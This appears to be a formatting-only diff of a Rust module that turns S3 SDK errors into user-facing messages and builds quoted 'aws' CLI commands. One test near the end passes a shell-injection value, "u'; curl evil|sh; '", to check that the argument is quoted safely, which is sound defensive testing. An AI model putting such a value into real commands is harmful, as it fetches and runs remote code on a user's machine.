@@ -38,7 +38,8 @@ pub(crate) struct About<'a> {
 
 /// The words of the SDK's error and of what caused it.
 ///
-/// Nothing else of it is kept: its `Debug` holds the answer's body, in which Amazon repeats the request that it refused, session token included.
+/// Nothing else of it is kept: its `Debug` holds the answer's body, in which Amazon repeats the
+/// request that it refused, session token included.
 #[derive(Debug)]
 struct Cause {
     words: String,
@@ -47,11 +48,15 @@ struct Cause {
 
 impl Cause {
     fn of(error: &dyn StdError) -> Self {
-        Self { words: error.to_string(), cause: error.source().map(|cause| Box::new(Self::of(cause))) }
+        Self {
+            words: error.to_string(),
+            cause: error.source().map(|cause| Box::new(Self::of(cause))),
+        }
     }
 
     fn chain(&self) -> impl Iterator<Item = &str> {
-        std::iter::successors(Some(self), |cause| cause.cause.as_deref()).map(|cause| cause.words.as_str())
+        std::iter::successors(Some(self), |cause| cause.cause.as_deref())
+            .map(|cause| cause.words.as_str())
     }
 }
 
@@ -71,14 +76,22 @@ pub(crate) fn failure<E>(about: About<'_>, error: SdkError<E, HttpResponse>) -> 
 where
     E: ProvideErrorMetadata + StdError + Send + Sync + 'static,
 {
-    failure_by(about, error, |status, code, sentence, region| service(about, status, code, sentence, region))
+    failure_by(about, error, |status, code, sentence, region| {
+        service(about, status, code, sentence, region)
+    })
 }
 
-/// A command of the vendor's tool, for whoever has to do something by hand. What others have named is no more than a word of it.
+/// A command of the vendor's tool, for whoever has to do something by hand. What others have named
+/// is no more than a word of it.
 pub(crate) fn aws_command(words: &[&str], region: &str, endpoint: Option<&str>) -> String {
-    let place =
-        ["--region", region].into_iter().chain(endpoint.into_iter().flat_map(|url| ["--endpoint-url", url]));
-    words.iter().copied().chain(place).fold("aws".to_owned(), |command, word| command + " " + &quoted(word))
+    let place = ["--region", region]
+        .into_iter()
+        .chain(endpoint.into_iter().flat_map(|url| ["--endpoint-url", url]));
+    words
+        .iter()
+        .copied()
+        .chain(place)
+        .fold("aws".to_owned(), |command, word| command + " " + &quoted(word))
 }
 
 /// Says of a refused request about versions what it takes to be allowed.
@@ -86,12 +99,15 @@ pub(crate) fn about_versions(failure: Failure) -> Failure {
     if failure.error.kind() != ErrorKind::PermissionDenied {
         return failure;
     }
-    let hint = "what is done with versions needs `s3:GetBucketVersioning` and `s3:ListBucketVersions` on the bucket, `s3:GetObjectVersion` on state and lock file, \
-                and, where the list of versions decides about locks (versioned buckets of Ceph's family and of Spaces), `s3:DeleteObjectVersion` on the lock file";
+    let hint = "what is done with versions needs `s3:GetBucketVersioning` and \
+                `s3:ListBucketVersions` on the bucket, `s3:GetObjectVersion` on state and lock \
+                file, and, where the list of versions decides about locks (versioned buckets of \
+                Ceph's family and of Spaces), `s3:DeleteObjectVersion` on the lock file";
     Failure { error: failure.error.with_hint(hint), ..failure }
 }
 
-/// Sorts a failure; what the codes of a service's answers mean is given by `meaning`: status, code, sentence, and the region that it hints at.
+/// Sorts a failure; what the codes of a service's answers mean is given by `meaning`: status, code,
+/// sentence, and the region that it hints at.
 pub(crate) fn failure_by<E>(
     about: About<'_>,
     error: SdkError<E, HttpResponse>,
@@ -102,7 +118,10 @@ where
 {
     let cause = Cause::of(&error);
     if let Some(denied) = Denied::in_chain(&error) {
-        return Failure { outcome: Outcome::Refused, error: about.denied(denied).with_source(cause) };
+        return Failure {
+            outcome: Outcome::Refused,
+            error: about.denied(denied).with_source(cause),
+        };
     }
     if let Some(failed) = ProxyFailed::in_chain(&error) {
         let told = failed.explain(about.error(failed.kind, &failed.fault));
@@ -125,14 +144,22 @@ where
         SdkError::DispatchFailure(_) if is_about_credentials(&error) => (
             Outcome::Refused,
             about
-                .error(ErrorKind::CredentialInvalid, "no credentials were found, or their source failed")
+                .error(
+                    ErrorKind::CredentialInvalid,
+                    "no credentials were found, or their source failed",
+                )
                 .with_context("credentials", &about.origins.credentials)
-                .with_hint("set `AWS_ACCESS_KEY_ID` and `AWS_SECRET_ACCESS_KEY`, or name a `profile` with `--backend-config profile=…`"),
+                .with_hint(
+                    "set `AWS_ACCESS_KEY_ID` and `AWS_SECRET_ACCESS_KEY`, or name a `profile` \
+                     with `--backend-config profile=…`",
+                ),
         ),
         SdkError::DispatchFailure(_) | SdkError::TimeoutError(_) => (
             if is_about_connecting(&cause) { Outcome::Unsent } else { Outcome::Unknown },
-            unreachable(about, &cause)
-                .with_hint(format!("check the network, and `{}` and `region` with `remote-state config show`", about.endpoint.0)),
+            unreachable(about, &cause).with_hint(format!(
+                "check the network, and `{}` and `region` with `remote-state config show`",
+                about.endpoint.0
+            )),
         ),
         _ => {
             let error = about.error(ErrorKind::Unavailable, "the answer cannot be read");
@@ -159,7 +186,8 @@ fn is_about_credentials(error: &(dyn StdError + 'static)) -> bool {
     false
 }
 
-/// These are the words of the HTTP client. Should they ever change, the outcome is unknown again, and that is safe.
+/// These are the words of the HTTP client. Should they ever change, the outcome is unknown again,
+/// and that is safe.
 fn is_about_connecting(cause: &Cause) -> bool {
     cause.chain().any(|words| words == "client error (Connect)")
 }
@@ -182,12 +210,16 @@ fn unreachable(about: About<'_>, cause: &Cause) -> Error {
 /// The words of the TLS library that a person has to translate, with what to do about them.
 fn explained(reason: &str) -> Option<(&'static str, &'static str)> {
     if reason.contains("InvalidContentType") {
-        return Some(("it answers in plain HTTP, and was asked by HTTPS", "write `http://` in the endpoint"));
+        return Some((
+            "it answers in plain HTTP, and was asked by HTTPS",
+            "write `http://` in the endpoint",
+        ));
     }
     if reason.contains("CaUsedAsEndEntity") {
         return Some((
             "the certificate of the server is that of an authority",
-            "trust exactly that certificate with `custom_ca_bundle`, or make one with `CA:FALSE` for the server",
+            "trust exactly that certificate with `custom_ca_bundle`, or make one with `CA:FALSE` \
+             for the server",
         ));
     }
     if reason.contains("UnknownIssuer") {
@@ -212,7 +244,9 @@ fn with_sentence(error: Error, sentence: Option<&str>) -> Error {
 }
 
 /// What to use instead where a store refuses the condition of a lock file.
-const LOCK_ELSEWHERE: &str = "if it refuses `If-None-Match`, keep the state in a store that honours conditional writes (Amazon S3, MinIO, Ceph without versioning), or turn `use_lockfile` off";
+const LOCK_ELSEWHERE: &str = "if it refuses `If-None-Match`, keep the state in a store that \
+                              honours conditional writes (Amazon S3, MinIO, Ceph without \
+                              versioning), or turn `use_lockfile` off";
 
 impl About<'_> {
     /// Says why there are no credentials.
@@ -221,7 +255,11 @@ impl About<'_> {
     }
 
     pub(crate) fn error(&self, kind: ErrorKind, reason: &str) -> Error {
-        Error::new(kind, self.operation, format!("cannot {} `{}`: {reason}", self.operation, self.object))
+        Error::new(
+            kind,
+            self.operation,
+            format!("cannot {} `{}`: {reason}", self.operation, self.object),
+        )
     }
 }
 
@@ -239,16 +277,22 @@ fn service(
     match code {
         // "The specified key does not exist."
         "NoSuchKey" => (Outcome::Absent, about.error(ErrorKind::NotFound, "it does not exist")),
-        // "The specified upload does not exist. The upload ID may be invalid, or the upload may have been aborted or completed."
-        "NoSuchUpload" => {
-            (Outcome::Unknown, about.error(ErrorKind::Unavailable, "the upload in parts is not there any more"))
-        }
+        // "The specified upload does not exist. The upload ID may be invalid, or the upload may
+        // have been aborted or completed."
+        "NoSuchUpload" => (
+            Outcome::Unknown,
+            about.error(ErrorKind::Unavailable, "the upload in parts is not there any more"),
+        ),
         // "The specified version does not exist."
-        "NoSuchVersion" => (Outcome::Refused, about.error(ErrorKind::NotFound, "that version does not exist")),
-        // "The specified method is not allowed against this resource": so it answers for a version that records a deletion.
-        "MethodNotAllowed" if about.operation == "read" => {
-            (Outcome::Refused, about.error(ErrorKind::NotFound, "that version records a deletion, and has no bytes"))
+        "NoSuchVersion" => {
+            (Outcome::Refused, about.error(ErrorKind::NotFound, "that version does not exist"))
         }
+        // "The specified method is not allowed against this resource": so it answers for a version
+        // that records a deletion.
+        "MethodNotAllowed" if about.operation == "read" => (
+            Outcome::Refused,
+            about.error(ErrorKind::NotFound, "that version records a deletion, and has no bytes"),
+        ),
         // "The specified bucket does not exist."
         "NoSuchBucket" => (
             Outcome::Refused,
@@ -258,54 +302,79 @@ fn service(
                 format!("bucket `{}` does not exist at {}", about.bucket, about.store),
             )
             .with_context("set in", &about.origins.bucket)
-            .with_hint("check `bucket`, `region` and `endpoints.s3` with `remote-state config show`; a bucket that was just made may take a minute"),
+            .with_hint(
+                "check `bucket`, `region` and `endpoints.s3` with `remote-state config show`; a \
+                 bucket that was just made may take a minute",
+            ),
         ),
         // "Access Denied". Without `s3:ListBucket` the store says this of missing objects too.
         "AccessDenied" | "AllAccessDisabled" | "AccountProblem" => (
             Outcome::Refused,
-            about
-                .error(ErrorKind::PermissionDenied, "access denied")
-                .with_hint("needed are `s3:ListBucket` on the bucket, and `s3:GetObject`, `s3:PutObject`, `s3:DeleteObject` on state and lock file"),
+            about.error(ErrorKind::PermissionDenied, "access denied").with_hint(
+                "needed are `s3:ListBucket` on the bucket, and `s3:GetObject`, `s3:PutObject`, \
+                 `s3:DeleteObject` on state and lock file",
+            ),
         ),
         // "The AWS access key ID you provided does not exist in our records." and its kin.
-        "InvalidAccessKeyId" | "SignatureDoesNotMatch" | "InvalidToken" | "InvalidTokenId" | "ExpiredToken" | "TokenRefreshRequired"
+        "InvalidAccessKeyId"
+        | "SignatureDoesNotMatch"
+        | "InvalidToken"
+        | "InvalidTokenId"
+        | "ExpiredToken"
+        | "TokenRefreshRequired"
         | "InvalidSecurity" => (
             Outcome::Refused,
             about
-                .error(ErrorKind::CredentialInvalid, &format!("{} does not accept the credentials ({code})", about.store))
+                .error(
+                    ErrorKind::CredentialInvalid,
+                    &format!("{} does not accept the credentials ({code})", about.store),
+                )
                 .with_context("credentials", &about.origins.credentials)
                 .with_hint("see which credentials are used with `remote-state config show`"),
         ),
         // "The difference between the request time and the server's time is too large."
         "RequestTimeTooSkewed" => clocks_differ(about),
-        // "The bucket that you are attempting to access must be addressed using the specified endpoint."
-        "PermanentRedirect" | "TemporaryRedirect" | "AuthorizationHeaderMalformed" | "IllegalLocationConstraintException" => {
+        // "The bucket that you are attempting to access must be addressed using the specified
+        // endpoint."
+        "PermanentRedirect"
+        | "TemporaryRedirect"
+        | "AuthorizationHeaderMalformed"
+        | "IllegalLocationConstraintException" => {
             (Outcome::Refused, wrong_region(about, sentence, hinted_region))
         }
         // "At least one of the preconditions that you specified did not hold."
-        "PreconditionFailed" => {
-            (Outcome::ConditionFailed, about.error(ErrorKind::PreconditionFailed, "it is not what it was expected to be"))
-        }
-        // "A conflicting operation occurred during processing": the store decided nothing. That is not a 412, which is a decision.
+        "PreconditionFailed" => (
+            Outcome::ConditionFailed,
+            about.error(ErrorKind::PreconditionFailed, "it is not what it was expected to be"),
+        ),
+        // "A conflicting operation occurred during processing": the store decided nothing. That is
+        // not a 412, which is a decision.
         "ConditionalRequestConflict" | "OperationAborted" => (
             Outcome::Conflict,
             about.error(ErrorKind::Unavailable, "the store is busy with another request for it"),
         ),
         // "Please reduce your request rate."
-        "SlowDown" | "Throttling" | "ThrottlingException" | "TooManyRequests" => {
-            (Outcome::Unknown, about.error(ErrorKind::RateLimited, "the store asks for fewer requests"))
-        }
-        // "Your socket connection to the server was not read from or written to within the timeout period."
-        "RequestTimeout" => {
-            (Outcome::Unknown, about.error(ErrorKind::Unavailable, "the store gave up waiting for the request"))
-        }
+        "SlowDown" | "Throttling" | "ThrottlingException" | "TooManyRequests" => (
+            Outcome::Unknown,
+            about.error(ErrorKind::RateLimited, "the store asks for fewer requests"),
+        ),
+        // "Your socket connection to the server was not read from or written to within the timeout
+        // period."
+        "RequestTimeout" => (
+            Outcome::Unknown,
+            about.error(ErrorKind::Unavailable, "the store gave up waiting for the request"),
+        ),
         // "A header you provided implies functionality that is not implemented."
         "NotImplemented" => {
             let reason = format!("{} cannot do what the configuration asks of it", about.store);
             let error = with_sentence(about.error(ErrorKind::Unsupported, &reason), sentence);
-            (Outcome::Refused, if about.operation == "lock" { error.with_hint(LOCK_ELSEWHERE) } else { error })
+            (
+                Outcome::Refused,
+                if about.operation == "lock" { error.with_hint(LOCK_ELSEWHERE) } else { error },
+            )
         }
-        // A 200 is sent before the work is done that takes long, and its body may then tell of a failure: "We encountered an internal error. Please try again."
+        // A 200 is sent before the work is done that takes long, and its body may then tell of a
+        // failure: "We encountered an internal error. Please try again."
         "InternalError" | "ServiceUnavailable" => failed(about, status, code),
         _ if !(300..500).contains(&status) => {
             let (outcome, error) = failed(about, status, code);
@@ -314,7 +383,8 @@ fn service(
         _ => {
             let reason = format!("the store refused it (status {status}, {code})");
             let error = with_sentence(about.error(ErrorKind::Unexpected, &reason), sentence);
-            let is_condition = about.operation == "lock" && sentence.is_some_and(|words| words.contains("If-None-Match"));
+            let is_condition = about.operation == "lock"
+                && sentence.is_some_and(|words| words.contains("If-None-Match"));
             (Outcome::Refused, if is_condition { error.with_hint(LOCK_ELSEWHERE) } else { error })
         }
     }
@@ -323,7 +393,8 @@ fn service(
 /// The service refused the time of a request, and once more with its own time: nothing was done.
 pub(crate) fn clocks_differ(about: About<'_>) -> (Outcome, Error) {
     let reason = "this machine's clock and the store's are too far apart";
-    let error = about.error(ErrorKind::CredentialInvalid, reason).with_hint("set this machine's clock");
+    let error =
+        about.error(ErrorKind::CredentialInvalid, reason).with_hint("set this machine's clock");
     (Outcome::Refused, error)
 }
 
@@ -333,7 +404,8 @@ fn failed(about: About<'_>, status: u16, code: &str) -> (Outcome, Error) {
     (Outcome::Unknown, about.error(ErrorKind::Unavailable, &reason))
 }
 
-/// Names the code that goes with a status, for answers without a body. A bare 404 stays a 404: it does not say that the bucket exists.
+/// Names the code that goes with a status, for answers without a body. A bare 404 stays a 404: it
+/// does not say that the bucket exists.
 fn code_of_status(status: u16) -> &'static str {
     match status {
         301 | 307 => "PermanentRedirect",
@@ -348,8 +420,10 @@ fn code_of_status(status: u16) -> &'static str {
 }
 
 fn wrong_region(about: About<'_>, sentence: Option<&str>, hinted_region: Option<&str>) -> Error {
-    // "The authorization header is malformed; the region 'us-east-1' is wrong; expecting 'eu-central-1'"
-    let expected = hinted_region.or_else(|| sentence?.split("expecting '").nth(1)?.split('\'').next());
+    // "The authorization header is malformed; the region 'us-east-1' is wrong; expecting
+    // 'eu-central-1'"
+    let expected =
+        hinted_region.or_else(|| sentence?.split("expecting '").nth(1)?.split('\'').next());
     let is_name = |region: &&str| region.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
     let error = Error::new(
         ErrorKind::ConfigInvalid,
@@ -358,8 +432,9 @@ fn wrong_region(about: About<'_>, sentence: Option<&str>, hinted_region: Option<
     )
     .with_context("set in", &about.origins.region);
     match expected.filter(is_name) {
-        Some(region) => error
-            .with_hint(format!("set `region = \"{region}\"`, or pass `--backend-config region={region}`")),
+        Some(region) => error.with_hint(format!(
+            "set `region = \"{region}\"`, or pass `--backend-config region={region}`"
+        )),
         None => error.with_hint("set `region` to the region of the bucket"),
     }
 }
@@ -373,6 +448,9 @@ mod tests {
         let words = ["s3api", "x", "--upload-id", "u'; curl evil|sh; '"];
         let command = aws_command(&words, "eu-west-1", Some("http://h/a b"));
         let place = "--region eu-west-1 --endpoint-url 'http://h/a b'";
-        assert_eq!(command, format!(r"aws s3api x --upload-id 'u'\''; curl evil|sh; '\''' {place}"));
+        assert_eq!(
+            command,
+            format!(r"aws s3api x --upload-id 'u'\''; curl evil|sh; '\''' {place}")
+        );
     }
 }
